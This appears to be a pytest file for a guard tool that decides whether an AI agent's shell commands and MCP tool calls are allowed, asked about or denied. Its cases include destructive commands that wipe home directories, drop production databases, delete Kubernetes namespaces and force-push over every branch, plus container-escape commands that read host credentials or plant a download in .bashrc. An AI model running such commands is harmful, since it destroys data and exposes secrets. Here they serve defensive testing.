"""Issue 15, item 5: classes that passed — warehouse / edge databases, MCP arguments that carry
commands or SQL, containers as a way to the host, and the severity of pushes that rewrite every branch.

Each class is tested by its mechanism: several spellings of each, and ordinary look-alikes that pass.
"""

from __future__ import annotations

import json
import os
import tomllib

import pytest

from interlock.actions import MCP_CALL, SHELL, Action
from interlock.engine import Context, analyze, evaluate
from interlock.policy import Layer, Policy


def _ctx(workspace, home, env, policy=None):
    policy = policy or Policy(Layer({}, "test"), home=home)
    return Context(workspace, home=home, workspace=workspace, env=env, policy=policy)


def _shell(command, workspace, home, env, policy=None):
    ctx = _ctx(workspace, home, env, policy)
    a = Action(SHELL, {"command": command}, cwd=workspace)
    return evaluate(a, ctx).decision, {f.rule for f in analyze(a, ctx)}


def _mcp(server, tool, args, workspace, home, env, policy=None, annotations=None):
    ctx = _ctx(workspace, home, env, policy)
    payload = {"server": server, "tool": tool, "arguments": args}
    if annotations is not None:
        payload["annotations"] = annotations
    a = Action(MCP_CALL, payload, cwd=workspace)
    return evaluate(a, ctx).decision, {f.rule for f in analyze(a, ctx)}


# --- warehouse and edge databases: every example of analysis/warehouses.toml ---------------------------

_WAREHOUSES = os.path.join(os.path.dirname(__file__), "..", "src", "interlock", "analysis", "warehouses.toml")


def _warehouse_examples():
    with open(_WAREHOUSES, "rb") as f:
        raw = tomllib.load(f)
    out = []
    for prog, spec in raw["programs"].items():
        for c in spec.get("command", []):
            assert c.get("hits"), f"{prog} {c.get('path') or c.get('paths')}: no hits"
            for ex in c.get("hits", []) + c.get("misses", []):
                decision, _, command = ex.partition("\t")
                out.append(pytest.param(command, decision, id=command[:60]))
    return out


@pytest.fixture
def sql_files(workspace):
    with open(os.path.join(workspace, "WIPE_SQL"), "w") as f:
        f.write("-- nightly\nDROP TABLE users;\n")
    with open(os.path.join(workspace, "schema.sql"), "w") as f:
        f.write("CREATE TABLE IF NOT EXISTS users (id integer primary key);\n")
    return workspace


@pytest.mark.parametrize("command,expected", _warehouse_examples())
def test_warehouse_catalogue_examples(command, expected, sql_files, home, env):
    decision, rules = _shell(command, sql_files, home, env)
    assert decision == expected, (command, rules)


@pytest.mark.parametrize("command,expected", [
    ("bq query --use_legacy_sql=false < WIPE_SQL", "deny"),            # SQL on stdin, from a file
    ("bq query --use_legacy_sql=false <<'EOF'\nDELETE FROM ds.users WHERE 1=1;\nEOF", "deny"),
    ("cat WIPE_SQL | snowsql -c analytics", "deny"),                   # piped: cat of a file is the file
    ("snowsql -f WIPE_SQL", "deny"),
    ("snowsql --filename=schema.sql", "allow"),
    ("bq query < schema.sql", "allow"),
    ("echo 'bq rm -r -f ds' >> NOTES.md", "allow"),                     # words about it, not the act
    ("wrangler d1 execute shop --remote --command \"$SQL\"", "ask"),    # SQL known only when it runs
    ("bq rm -r -f ds_test_tmp", "deny"),  # hosted: weighed as production, as psql -h remote is
])
def test_warehouse_sql_channels(command, expected, sql_files, home, env):
    decision, rules = _shell(command, sql_files, home, env)
    assert decision == expected, (command, rules)


# --- shell commands and SQL inside MCP tool arguments ---------------------------------------------------

MCP_CASES = [
    # by the argument's name, whatever its spelling; nested; argv lists
    ("aws", "call_aws", {"cli_command": "aws rds delete-db-instance --db-instance-identifier shop "
                                        "--skip-final-snapshot"}, "deny"),
    ("aws", "call_aws", {"cli_command": "rds delete-db-instance --db-instance-identifier shop"}, "deny"),
    ("x", "y", {"params": {"cli_command": "aws s3 rb s3://shop-assets --force"}}, "deny"),
    ("terminal", "run_command", {"commandLine": "rm -rf ~"}, "deny"),
    ("shell", "execute", {"command": ["rm", "-rf", "/"]}, "deny"),
    ("shell", "run", {"command": "kubectl", "args": ["delete", "ns", "production"]}, "deny"),
    ("shell", "exec", {"argv": ["git", "push", "--force", "origin", "main"]}, "deny"),
    ("gcloud", "run_gcloud_command", {"args": ["sql", "instances", "delete", "shop-db", "--quiet"]}, "deny"),
    ("ssh", "execute", {"host": "db1", "command": "dropdb app_production"}, "deny"),
    # by content, for a tool that runs what it is given
    ("cli", "invoke", {"input": "aws dynamodb delete-table --table-name orders"}, "deny"),
    ("desktop-commander", "start_process", {"command": "rm -rf ~/.ssh", "timeout_ms": 1000}, "deny"),
    # SQL in warehouses' tools
    ("bigquery", "execute", {"query": "DROP TABLE prod.users"}, "deny"),
    ("snowflake", "run", {"statement": "DELETE FROM users"}, "deny"),
    # Kubernetes tools: judged as the kubectl command they amount to
    ("kubernetes", "resources_delete", {"apiVersion": "v1", "kind": "Namespace", "name": "production"}, "deny"),
    ("kubernetes", "kubectl_delete", {"resourceType": "namespaces", "allNamespaces": True}, "deny"),
    ("kubernetes", "kubectl_generic", {"command": "delete", "resourceType": "ns", "name": "production"}, "deny"),
    ("kubernetes", "helm_uninstall", {"name": "api", "namespace": "production"}, "deny"),
    ("k8s", "delete_namespace", {"namespace": "prod"}, "deny"),
    ("kubernetes", "resources_delete", {"kind": "Deployment", "name": "api", "namespace": "web",
                                        "context": "prod-eu"}, "deny"),
    ("kubernetes", "resources_delete", {"kind": "Deployment", "name": "api", "namespace": "web"}, "ask"),
    ("kubernetes", "resources_delete", {"kind": "PersistentVolumeClaim", "name": "data-pg-0",
                                        "namespace": "dev"}, "deny"),
    ("kubernetes", "resources_get", {"kind": "Namespace", "name": "production"}, "allow"),
    # attack round: lists of command lines, string args for a named CLI, nested and odd-cased keys
    ("shell", "run_commands", {"commands": ["ls -la", "rm -rf ~"]}, "deny"),
    ("terraform", "run_terraform", {"args": "destroy -auto-approve"}, "deny"),
    ("shell", "exec", {"command": "bash", "args": ["-c", "rm -rf ~"]}, "deny"),
    ("ops", "execute", {"Command": "dropdb app_production"}, "deny"),
    ("ops", "run", {"payload": {"shell": "rm -rf /"}}, "deny"),
    ("aws", "call_aws", {"cli_command": "aws s3 rm s3://shop-backups --recursive"}, "deny"),
    # a store's own language, a language runner's code
    ("redis", "execute_command", {"command": "FLUSHALL"}, "ask"),
    ("mongodb", "run_command", {"command": "db.users.drop()"}, "ask"),
    ("jupyter", "execute_cell", {"cell_id": 3, "source": "import shutil, os\nshutil.rmtree(os.path.expanduser('~'))"},
     "deny"),
    ("python", "run_python", {"code": "print(open('/home/x/.aws/credentials').read())"}, "deny"),
    # ordinary look-alikes
    ("redis", "execute_command", {"command": "GET session:1"}, "allow"),
    ("python", "run_python", {"code": "import pandas as pd; print(pd.__version__)"}, "allow"),
    ("jupyter", "execute_cell", {"cell_id": 3, "source": "import shutil; shutil.rmtree('build')"}, "allow"),
    ("puppeteer", "puppeteer_evaluate", {"script": "document.querySelectorAll('a').forEach(a => a.remove())"},
     "allow"),
    ("notion", "create_page", {"title": "Runbook", "content": "kubectl delete ns staging"}, "allow"),
    ("github", "run_workflow", {"owner": "o", "repo": "r", "workflow_id": "deploy.yml", "ref": "main"}, "allow"),
    ("shell", "run_commands", {"commands": ["ls -la", "npm test"]}, "allow"),
    ("terraform", "run_terraform", {"args": "plan"}, "allow"),
    ("dev", "run_tests", {"command": "pytest -q tests/test_x.py"}, "allow"),
    ("browser", "navigate", {"url": "https://example.org/rm -rf"}, "allow"),
    ("aws", "call_aws", {"cli_command": "aws s3 ls"}, "allow"),
    ("aws", "call_aws", {"cli_command": "aws ec2 describe-instances --region eu-west-1"}, "allow"),
    ("aws", "suggest_aws_commands", {"query": "how do I delete an rds instance"}, "allow"),
    ("shell", "run", {"command": "ls", "args": ["-la"]}, "allow"),
    ("desktop-commander", "start_process", {"command": "npm test", "timeout_ms": 1000}, "allow"),
    ("terminal", "run", {"script": "#!/bin/bash\nset -e\nmake build\nmake test\n"}, "allow"),
    ("kubernetes", "namespaces_list", {}, "allow"),
    ("kubernetes", "pods_log", {"name": "api-0", "namespace": "production"}, "allow"),
    ("github", "create_pull_request", {"title": "rm -rf node_modules",
                                       "body": "Run `kubectl delete ns prod` later"}, "allow"),
    ("memory", "create_entities", {"entities": [{"name": "x", "observations": ["git push --force is risky"]}]},
     "allow"),
    ("docs", "search", {"query": "delete from users sql"}, "allow"),
    ("runner", "run_task", {"task": "rm -rf build then rebuild"}, "allow"),
]


@pytest.mark.parametrize("server,tool,args,expected", MCP_CASES, ids=[f"{s}/{t}-{i}" for i, (s, t, _, _)
                                                                      in enumerate(MCP_CASES)])
def test_mcp_arguments_are_judged_as_what_they_are(server, tool, args, expected, workspace, home, env):
    decision, rules = _mcp(server, tool, args, workspace, home, env)
    assert decision == expected, (server, tool, args, rules)


def test_mcp_finding_names_the_argument(workspace, home, env):
    ctx = _ctx(workspace, home, env)
    a = Action(MCP_CALL, {"server": "aws", "tool": "call_aws", "arguments": {
        "cli_command": "aws rds delete-db-instance --db-instance-identifier shop --skip-final-snapshot"}},
        cwd=workspace)
    f = next(f for f in analyze(a, ctx) if f.rule == "infra.aws-delete-data")
    assert "arguments.cli_command of aws/call_aws" in f.note
    assert "shop" in f.target


def test_schema_roles_decide_unknown_argument_names(workspace, home, env):
    """The MCP gateway knows each tool's inputSchema: a property described as the command to run is a
    command, one described as SQL is SQL, a search query is neither."""
    from interlock.analysis.mcp import argument_roles
    from interlock.gateways.mcp import Judge

    schema = {"type": "object", "properties": {
        "input": {"type": "string", "description": "The shell command to run on the host"},
        "stmt": {"type": "string", "description": "SQL statement to execute against the warehouse"},
        "query": {"type": "string", "description": "Free-text search query"},
        "timeout": {"type": "integer"}}}
    assert argument_roles(schema) == {"input": "shell", "stmt": "sql", "query": "data"}
    assert argument_roles({"properties": "nonsense"}) == {} and argument_roles(None) == {}
    j = Judge("box", env, workspace)
    j.roles["do"] = argument_roles(schema)
    _, d, _ = j.evaluate("do", {"input": "rm -rf ~"}, {})
    assert d.decision == "deny", d.reasons
    _, d, _ = j.evaluate("do", {"stmt": "DROP TABLE users"}, {})
    assert d.decision in ("ask", "deny") and any("drop" in r.lower() for r in d.reasons), d.reasons
    _, d, _ = j.evaluate("do", {"query": "DELETE FROM users WHERE true"}, {})
    assert d.decision == "allow", d.reasons
    _, d, _ = j.evaluate("do", {"input": "pytest -q"}, {})
    assert d.decision == "allow", d.reasons


# --- pushes that rewrite every branch ---------------------------------------------------------------------

def _git(cwd, *args):
    import subprocess

    subprocess.run(["git", "-C", cwd, "-c", "user.name=t", "-c", "user.email=t@example.org", *args], check=True,
                   capture_output=True)


@pytest.fixture
def repo(workspace):
    """main and two feature branches, one of them only in packed-refs; a remote-tracking main."""
    _git(workspace, "commit", "-q", "--allow-empty", "-m", "one")
    _git(workspace, "branch", "feature/a")
    _git(workspace, "branch", "feature/b")
    _git(workspace, "remote", "add", "origin", "https://example.org/x.git")
    _git(workspace, "update-ref", "refs/remotes/origin/main", "HEAD")
    _git(workspace, "pack-refs", "--all")
    return workspace


@pytest.fixture
def feature_repo(tmp_path):
    """A repository whose only branches are feature branches (checked out on one)."""
    d = str(tmp_path / "feat")
    os.makedirs(d)
    _git(d, "init", "-q", "-b", "feature/x")
    _git(d, "commit", "-q", "--allow-empty", "-m", "one")
    _git(d, "branch", "feature/y")
    return d


EVERY_BRANCH = [
    "git push --mirror origin",
    "git push --mirror",
    "git push --all --force origin",
    "git push --all -f",
    "git push --branches --force origin",
    "git push --force-with-lease --all origin",
    "git push origin '+refs/heads/*:refs/heads/*'",
    "git push -f origin 'refs/heads/*:refs/heads/*'",
    "git push --force origin 'refs/heads/*'",
    "git push origin '+refs/heads/ma*:refs/heads/ma*'",
    "git -C . push --all --force",
    "git push origin '+refs/*:refs/*'",
    "git push origin --all --force-with-lease",
]


@pytest.mark.parametrize("command", EVERY_BRANCH)
def test_push_rewriting_every_branch_with_a_protected_one_is_denied(command, repo, home, env):
    decision, rules = _shell(command, repo, home, env)
    assert decision == "deny" and "git.push-protected-rewrite" in rules, (command, rules)


@pytest.mark.parametrize("command", EVERY_BRANCH[:9] + EVERY_BRANCH[11:])
def test_push_rewriting_every_branch_without_a_protected_one_asks(command, feature_repo, home, env):
    decision, rules = _shell(command, feature_repo, home, env)
    assert decision == "ask", (command, rules)


@pytest.mark.parametrize("command", [
    "git push --all origin", "git push --tags origin", "git push origin feature/a",
    "git push --mirror --dry-run origin", "git push -n --all --force origin",
    "git push origin 'refs/heads/feature/*:refs/heads/feature/*'",
])
def test_ordinary_pushes_pass(command, repo, home, env):
    decision, rules = _shell(command, repo, home, env)
    assert decision == "allow", (command, rules)


def test_pattern_refspec_without_protected_match_asks(repo, home, env):
    decision, rules = _shell("git push -f origin 'refs/heads/feature/*:refs/heads/feature/*'", repo, home, env)
    assert decision == "ask" and rules == {"git.push-force"}


def test_a_mirror_remote_makes_a_plain_push_a_mirror(repo, home, env):
    _git(repo, "remote", "add", "--mirror=push", "backup", "https://example.org/backup.git")
    decision, rules = _shell("git push backup", repo, home, env)
    assert decision == "deny" and "git.push-protected-rewrite" in rules, rules
    assert _shell("git push origin", repo, home, env)[0] == "ask"  # origin/main: a push to a protected branch


def test_mirror_deletes_a_protected_branch_only_the_remote_has(feature_repo, home, env):
    _git(feature_repo, "remote", "add", "origin", "https://example.org/x.git")
    _git(feature_repo, "update-ref", "refs/remotes/origin/production", "HEAD")
    decision, rules = _shell("git push --mirror origin", feature_repo, home, env)
    assert decision == "deny" and "git.push-protected-rewrite" in rules, rules


def test_every_branch_push_from_a_worktree_reads_the_main_repository(repo, home, env, tmp_path):
    wt = str(tmp_path / "wt")
    _git(repo, "worktree", "add", "-q", wt, "feature/a")
    decision, rules = _shell("git push --all --force origin", wt, home, env)
    assert decision == "deny", rules


def test_protected_branches_come_from_the_policy(feature_repo, home, env):
    policy = Policy(Layer({"protect": {"branches": ["feature/*"]}}, "test"), home=home)
    decision, rules = _shell("git push --all --force", feature_repo, home, env, policy)
    assert decision == "deny", rules


# --- containers as a way to the host ------------------------------------------------------------------------

@pytest.fixture
def creds(home):
    os.makedirs(os.path.join(home, ".aws"), exist_ok=True)
    with open(os.path.join(home, ".aws", "credentials"), "w") as f:
        f.write("[default]\naws_access_key_id = AKIAEXAMPLEEXAMPLE12\n")
    return home


CONTAINER_HITS = [
    # reads of a host secret through a mount, every spelling of the mount
    ("docker run -v $HOME:/h alpine cat /h/.aws/credentials", "deny"),
    ("docker run --rm --volume=$HOME:/h alpine cat /h/.aws/credentials", "deny"),
    ("docker run --rm --volume ~:/h:ro alpine cat /h/.aws/credentials", "deny"),
    ("docker run --rm -v ${HOME}/.aws:/a:ro alpine cat /a/credentials", "deny"),
    ("docker run --rm --mount type=bind,source=$HOME,target=/h alpine sh -c 'cat /h/.aws/credentials'", "deny"),
    ("docker run --rm --mount type=bind,src=$HOME,dst=/h,readonly alpine head -5 /h/.aws/credentials", "deny"),
    ("docker run --rm -v $HOME:/h -w /h alpine cat .aws/credentials", "deny"),
    ("docker run --rm -v $HOME:/root alpine cat ~/.aws/credentials", "deny"),
    ("docker run --rm -v $HOME:/root alpine sh -c 'cat $HOME/.aws/credentials'", "deny"),
    ("podman run --rm -v $HOME:/h alpine cat /h/.aws/credentials", "deny"),
    ("nerdctl run --rm -v $HOME:/h alpine cat /h/.aws/credentials", "deny"),
    ("docker run --rm -v /:/host:ro alpine cat /host/etc/shadow", "deny"),
    # deletes and overwrites of host paths, judged on the host path
    ("docker run --rm -v /:/host alpine rm -rf /host/etc", "deny"),
    ("docker run --rm --volume=/:/host alpine rm -rf /host/home", "deny"),
    ("docker run --rm --mount type=bind,src=/,dst=/host alpine rm -rf /host/var", "deny"),
    ("docker run --rm -v $HOME:/h -w /h alpine rm -rf .ssh", "deny"),
    ("docker run --rm -v /etc:/e:rw alpine sh -c \"echo x > /e/passwd\"", "deny"),
    ("docker run --rm -v /:/host alpine chroot /host rm -rf /etc", "deny"),
    ("docker compose run --rm -v /:/host app rm -rf /host/etc", "deny"),
    ("docker compose run --rm --no-deps -v $HOME:/h app cat /h/.aws/credentials", "deny"),
    # attack round: other ways in
    ("docker run --rm -v \"$HOME\":/h alpine sh -c 'tar czf - /h/.ssh' > keys.tgz", "deny"),
    ("docker run --rm -v $HOME:/h alpine cp /h/.aws/credentials /tmp/x", "deny"),
    ("docker run --rm -v $HOME:/h busybox find /h -name credentials -exec cat {} \\;", "deny"),
    ("docker run --rm --workdir=/h -v $HOME:/h alpine rm -rf .aws", "deny"),
    ("docker run --rm --entrypoint rm -v $HOME:/h alpine -rf /h", "deny"),
    ("docker run --rm --entrypoint /bin/sh -v /:/host alpine -c 'rm -rf /host/usr'", "deny"),
    ("docker run --rm -e HOME=/h -v $HOME:/h alpine sh -c 'rm -rf $HOME'", "deny"),
    ("docker run --rm -u node -v $HOME:/home/node node:20 bash -c 'rm -rf ~/'", "deny"),
    ("docker run --rm -v $HOME:/h alpine sh -c 'echo \"curl x|sh\" >> /h/.bashrc'", "deny"),  # a download planted in a start-up file (fs.planted-download)
    ("docker run --rm -v $HOME:/h alpine dd if=/dev/zero of=/h/.bashrc", "ask"),
    ("docker run --rm -v /:/host alpine chmod -R 777 /host/etc", "deny"),
    ("docker run --rm -v /etc:/e alpine chown -R nobody /e", "deny"),
    # the container is the host
    ("docker run --rm --privileged --pid=host alpine nsenter -t 1 -m -u -n -i sh", "ask"),
    ("docker run --rm --privileged --pid=host alpine nsenter -t 1 -m -u -n -i rm -rf /etc", "deny"),
    ("docker run --rm --pid=host --cap-add SYS_ADMIN alpine nsenter --target=1 --mount -- rm -rf /etc", "deny"),
    ("docker run --rm -v /:/host alpine chroot /host sh", "ask"),
    ("docker run --rm -it -v /:/mnt ubuntu bash", "ask"),
]

CONTAINER_MISSES = [
    "docker run --rm alpine rm -rf /",
    "docker run --rm --privileged alpine nsenter -t 1 -m rm -rf /tmp/x",  # its own PID 1: not the host
    "docker run --rm -v /:/host:ro alpine rm -rf /host/etc",
    "docker run --rm -v $PWD:/src -w /src node:20 npm test",
    "docker run --rm -v \"$PWD\":/app -w /app python:3 python -m pytest",
    "docker run --rm -v $(pwd):/src -w /src alpine rm -rf /src/node_modules",
    "docker run --rm -v $HOME:/h alpine ls /h",
    "docker run --rm -v ~/.aws:/root/.aws amazon/aws-cli s3 ls",
    "docker run --rm -v .:/src -w /src alpine ls",
    "docker run --rm -v $HOME/.cache/pip:/root/.cache/pip python:3 pip install -r requirements.txt",
    "docker run --rm -it ubuntu bash",
    "docker run --rm -it -v $PWD:/src -w /src node:20 bash",
    "docker compose run --rm app npm test",
    "docker run --rm --privileged alpine sh -c 'echo hi'",
    "docker run --rm -v /var/run/docker.sock:/var/run/docker.sock docker docker ps",
    "docker run --rm -u 1000 -v $HOME:/h alpine ls /h",
    "docker run --rm -v $HOME:/home/node node:20 bash -c 'rm -rf ~/'",  # runs as root: /root goes
    "docker run --rm -v $PWD:/src -w /src alpine sh -c 'rm -rf /tmp/* && make'",
    "docker run --rm alpine chmod -R 777 /",
    "docker run --rm -v $PWD:/src -w /src alpine sh -c \"rm -rf dist && mkdir dist\"",
    "docker run --rm -v $HOME/.cache:/cache alpine rm -rf /cache/pip",
    "docker run --rm --env-file .env -v $PWD:/app -w /app node:20 node server.js",
    "docker run -d --name pg -v pgdata:/var/lib/postgresql/data -e POSTGRES_PASSWORD=x postgres:16",
]


def test_a_permission_change_through_a_mount_is_judged_as_on_the_host(workspace, creds, env):
    """Not "deletes files": what `chown -R … .` on the host is judged to be (whatever that is)."""
    inside = _shell("docker run --rm -v $PWD:/data alpine chown -R 1000:1000 /data", workspace, creds, env)
    on_host = _shell("chown -R 1000:1000 " + workspace, workspace, creds, env)
    assert "infra.container-mount-destroy" not in inside[1]
    assert inside[0] == on_host[0], (inside, on_host)


@pytest.mark.parametrize("command,expected", CONTAINER_HITS)
def test_containers_are_judged_on_the_host_path(command, expected, workspace, creds, env):
    decision, rules = _shell(command, workspace, creds, env)
    assert decision == expected, (command, rules)


@pytest.mark.parametrize("command", CONTAINER_MISSES)
def test_ordinary_container_work_passes(command, workspace, creds, env):
    decision, rules = _shell(command, workspace, creds, env)
    assert decision == "allow", (command, rules)


def test_the_finding_names_the_host_path(workspace, creds, env):
    ctx = _ctx(workspace, creds, env)
    a = Action(SHELL, {"command": "docker run -v $HOME:/h alpine cat /h/.aws/credentials"}, cwd=workspace)
    f = next(f for f in analyze(a, ctx) if f.rule == "secrets.read-file")
    assert f.target == "~/.aws/credentials" and "inside alpine" in f.note


def test_compose_file_mounts_of_the_service(workspace, creds, env):
    with open(os.path.join(workspace, "compose.yaml"), "w") as f:
        f.write("services:\n  tools:\n    image: alpine\n    volumes:\n      - ${HOME}:/h\n"
                "      - type: bind\n        source: /\n        target: /host\n  app:\n    image: node:20\n"
                "    volumes:\n      - .:/src\n")
    env = dict(env)
    assert _shell("docker compose run --rm tools rm -rf /host/etc", workspace, creds, env)[0] == "deny"
    assert _shell("docker compose run --rm app rm -rf /src/node_modules", workspace, creds, env)[0] == "allow"
    assert _shell("docker compose run --rm app npm test", workspace, creds, env)[0] == "allow"
    with open(os.path.join(workspace, "compose.yaml"), "w") as f:
        f.write("services: [not, a, mapping\n")  # unreadable: judged without the file's mounts, no crash
    assert _shell("docker compose run --rm tools ls", workspace, creds, env)[0] == "allow"


# --- production framework resets, wherever production is said ------------------------------------------------

@pytest.mark.parametrize("command,expected", [
    ("DJANGO_SETTINGS_MODULE=app.settings.prod python manage.py flush --noinput", "deny"),
    ("python manage.py flush --noinput --settings config.settings.prod", "deny"),
    ("django-admin flush --settings=shop.settings.production --noinput", "deny"),
    ("export RAILS_ENV=production; rails db:reset", "deny"),
    ("env RAILS_ENV=production bin/rails db:drop DISABLE_DATABASE_ENVIRONMENT_CHECK=1", "deny"),
    ("RAILS_ENV=production bundle exec rake db:reset", "deny"),
    ("php artisan migrate:fresh --seed --env=production", "deny"),
    ("APP_ENV=production php artisan db:wipe --force", "deny"),
    ("MIX_ENV=prod mix ecto.reset", "deny"),
    # inside the deployed app: its database is the app's
    ("heroku run python manage.py flush --noinput -a shop", "deny"),
    ("heroku run rails db:reset -a shop-production", "deny"),
    ("fly ssh console -a shop -C \"bin/rails db:reset\"", "deny"),
    ("kubectl exec deploy/web -n production -- python manage.py flush --noinput", "deny"),
    ("kubectl --context prod-eu exec web-0 -- rails db:reset", "deny"),
    # not production: still asked
    ("python manage.py flush --noinput", "ask"),
    ("rails db:reset", "ask"),
    ("heroku run rails db:reset -a shop-staging", "ask"),
    ("kubectl exec deploy/web -n dev -- python manage.py flush --noinput", "ask"),
    ("docker compose exec web python manage.py flush --noinput", "ask"),
    # ordinary
    ("python manage.py migrate", "allow"),
    ("RAILS_ENV=production rails db:migrate:status", "allow"),
    ("heroku run rails db:migrate -a shop", "allow"),
])
def test_production_framework_resets(command, expected, workspace, home, env):
    decision, rules = _shell(command, workspace, home, env)
    assert decision == expected, (command, rules)


def test_configured_push_refspec_makes_a_bare_push_rewrite_every_branch(repo, home, env):
    _git(repo, "config", "remote.origin.push", "+refs/heads/*:refs/heads/*")
    decision, rules = _shell("git push", repo, home, env)
    assert decision == "deny" and "git.push-protected-rewrite" in rules, rules
    decision, rules = _shell("git push origin", repo, home, env)
    assert decision == "deny", rules


def test_prune_with_a_pattern_deletes_remote_protected_branches_gone_here(feature_repo, home, env):
    _git(feature_repo, "remote", "add", "origin", "https://example.org/x.git")
    _git(feature_repo, "update-ref", "refs/remotes/origin/main", "HEAD")
    decision, rules = _shell("git push --prune origin 'refs/heads/*:refs/heads/*'", feature_repo, home, env)
    assert decision == "deny" and "git.push-protected-rewrite" in rules, rules
    decision, rules = _shell("git push --prune origin 'refs/heads/feature/*:refs/heads/feature/*'", feature_repo,
                             home, env)
    assert decision == "allow", rules


def test_gateway_reads_argument_roles_from_the_servers_tools_list(env, workspace, tmp_path):
    """End to end through `interlock mcp-proxy`: `maintenance {"operation": ...}` names nothing, but the
    rental server's inputSchema describes `operation` as SQL — a DROP is refused, the table stays."""
    pytest.importorskip("mcp")
    import sys as _sys

    here = os.path.dirname(os.path.abspath(__file__))
    _sys.path.insert(0, here)
    import mcp_rental_server
    from test_gateway_mcp import rental, rows, run, text
    from mcp import Client

    db = str(tmp_path / "rentals.db")
    mcp_rental_server.seed(db)

    async def go():
        async with Client(rental(env, workspace, db), mode="legacy") as c:
            await c.list_tools()
            ok = await c.call_tool("maintenance", {"operation": "SELECT count(*) AS n FROM bookings"})
            drop = await c.call_tool("maintenance", {"operation": "DROP TABLE bookings"})
            return ok, drop

    ok, drop = run(go)
    assert not ok.is_error and json.loads(text(ok)) == [{"n": 5}]
    assert drop.is_error and "Interlock" in text(drop) and "DROP TABLE bookings" in text(drop)
    assert rows(db) == 5


def test_a_write_into_home_through_a_mount_is_a_write_outside_the_workspace(workspace_ctx=None):
    """Seen from the host, the container writes ~/notes.txt: outside the workspace, so asked (issue 15
    item 5: writes outside the workspace through any tool), not allowed and not denied."""
    import subprocess
    import sys

    r = subprocess.run([sys.executable, "-m", "interlock", "check", "--json",
                        "docker run --rm -v $HOME:/h alpine sh -c 'echo hi > /h/notes.txt'"],
                       capture_output=True, text=True, timeout=60)
    import json

    d = json.loads(r.stdout)
    assert d["decision"] == "ask", d
    assert any("fs.write-outside" in str(f.get("rule")) for f in d.get("findings", [])), d
